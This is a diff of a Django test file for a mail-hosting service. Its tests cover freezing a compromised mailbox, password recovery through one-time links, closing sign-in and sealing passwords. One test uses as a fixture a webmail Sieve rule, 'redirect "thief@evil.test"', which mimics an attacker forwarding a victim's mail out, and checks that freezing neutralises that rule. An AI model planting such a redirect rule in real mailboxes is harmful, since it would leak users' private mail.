@@ -7,16 +7,19 @@ import pytest
 from django.core import mail
 from django.test import Client
 from django.utils import timezone
+from nacl.public import PrivateKey
 
 from accounts import app_passwords, freezing, notices, second_factors
 from accounts.lifecycle import edit_mailbox
-from accounts.models import Mailbox, Notice, Person, RedirectAlarm
+from accounts.models import Mailbox, Notice, OneTimeLink, Person, RedirectAlarm
 from accounts.one_time_links import CHOOSE_PASSWORD, find_link, make_link
 from accounts.people import set_own_password
 from accounts.services import change_password
 from audit.chain import record
 from audit.models import Event
+from mailservers.drivers.base import Limits
 from mailservers.drivers.memory import MemoryDriver
+from mailservers.models import Observation, SealedPassword
 from mailservers.outbox import request_push
 from tests.conftest import PASSWORD
 from vacation.forwarding import answer, save_forwarding
@@ -132,7 +135,7 @@ def test_its_button_shuts_everybody_out_and_lets_no_mail_leave(anna, owner, clie
     with committed():
         page = press(client, link_in(mails["anna@home.test"])).content.decode()
     assert "It is done" in page
-    assert "/forgotten-password/" in page
+    assert "Choose a new password now" in page
     assert thief.get(PAGE).status_code == 302
     assert anna.login in MemoryDriver.ended_sessions
     assert not anna.app_passwords.exists()
@@ -198,3 +201,90 @@ def test_of_staff_the_sessions_end_and_the_operators_are_told(operator, support,
     assert press(client, link_in(sent()["sam@hoster.test"])).status_code == 200
     assert thief.get("/account/").status_code == 302
     assert "sam says: somebody else" in sent()["olga@hoster.test"]
+
+
+# --- after that: the password, and rules made in webmail
+
+
+def choose(client, code, password):
+    form = {"code": code, "new_password": password, "new_password_again": password}
+    return client.post("/choose-password/", form)
+
+
+def test_who_reads_it_at_the_recovery_address_is_led_to_a_new_password(anna, owner, client):
+    change_password(anna, NEW, by=owner)
+    page = press(client, link_in(sent()["anna@home.test"])).content.decode()
+    (link,) = re.findall(r"http://testserver/choose-password/\?code=([\w-]+)", page)
+    assert find_link(CHOOSE_PASSWORD, link)
+    choose(client, link, "quartz umbrella nineteen")
+    anna.refresh_from_db()
+    assert anna.has_changed_password_since_frozen
+
+
+def test_who_reads_it_in_the_mailbox_may_be_the_thief_and_asks_for_a_link(anna, owner, client):
+    change_password(anna, NEW, by=owner)
+    page = press(client, link_in(sent()["anna@example.test"])).content.decode()
+    assert "choose-password" not in page
+    assert 'action="/forgotten-password/"' in page
+    assert 'name="name" value="anna@example.test"' in page
+
+
+def test_the_webmaster_closes_signing_in_until_a_new_password_is_chosen(frozen, client, webmaster, committed):
+    client.force_login(webmaster, "accounts.backends.PersonBackend")
+    assert "It is the same as before" in client.get(PAGE).content.decode()
+    assert "the password is still the same" in client.get("/domains/").content.decode()
+    before = MemoryDriver.accounts.get(frozen.login)
+    with committed():
+        page = client.post(f"{PAGE}require-password/").content.decode()
+    (link,) = re.findall(r"choose-password/\?code=([\w-]+)</textarea>", page)
+    held = MemoryDriver.accounts[frozen.login].password_hash
+    assert before is None or held != before.password_hash
+    assert "Signing in is closed since" in client.get(PAGE).content.decode()
+    theirs = Client()
+    answer = theirs.post("/sign-in/", {"username": frozen.address, "password": PASSWORD})
+    assert answer.status_code == 200
+    assert "You have had this password before" in choose(theirs, link, PASSWORD).content.decode()
+    with committed():
+        choose(theirs, link, NEW)
+    assert theirs.post("/sign-in/", {"username": frozen.address, "password": NEW}).status_code == 302
+    assert "It was changed" in client.get(PAGE).content.decode()
+
+
+def test_it_can_be_mailed_as_well_and_once_closed_no_other_password_is_made(
+    frozen, client, webmaster, committed
+):
+    client.force_login(webmaster, "accounts.backends.PersonBackend")
+    client.post(f"{PAGE}require-password/", {"send": "1"})
+    closed = Mailbox.objects.get(pk=frozen.pk).password_hash
+    client.post(f"{PAGE}require-password/", {"send": "1"})
+    assert Mailbox.objects.get(pk=frozen.pk).password_hash == closed
+    assert OneTimeLink.objects.get(mailbox=frozen).mail_to == "anna@home.test"
+    assert "closed until a new password is chosen" in client.get("/domains/example.test/").content.decode()
+
+
+def test_where_the_server_takes_clear_text_it_gets_one_that_nobody_knows(
+    frozen, client, webmaster, monkeypatch, settings
+):
+    client.force_login(webmaster, "accounts.backends.PersonBackend")
+    monkeypatch.setattr(MemoryDriver, "limits", Limits(takes_hashes=False))
+    settings.SEALING_PUBLIC_KEY = b""
+    assert "Nothing was changed" in client.post(f"{PAGE}require-password/", follow=True).content.decode()
+    assert Mailbox.objects.get(pk=frozen.pk).password_asked_at is None
+    settings.SEALING_PUBLIC_KEY = bytes(PrivateKey.generate().public_key)
+    client.post(f"{PAGE}require-password/")
+    assert SealedPassword.objects.filter(mailbox=frozen).exists()
+
+
+def test_rules_made_in_webmail_rest_and_are_told(anna, committed):
+    MemoryDriver.own_scripts[anna.login] = own = 'redirect "thief@evil.test";\n'
+    with committed():
+        freezing.freeze(anna, kind="password")
+    script = MemoryDriver.scripts[anna.login]
+    assert (script.active, script.text) == (True, "stop;\n")
+    assert MemoryDriver.own_scripts[anna.login] == own
+    found = Observation.objects.get(mailbox=anna, aspect="script")
+    assert found.put_right is not None
+    assert RedirectAlarm.objects.open().filter(kind="redirect").get().targets == ["thief@evil.test"]
+    with committed():
+        freezing.unfreeze(anna, by=anna.owner)
+    assert MemoryDriver.scripts[anna.login].text == ""
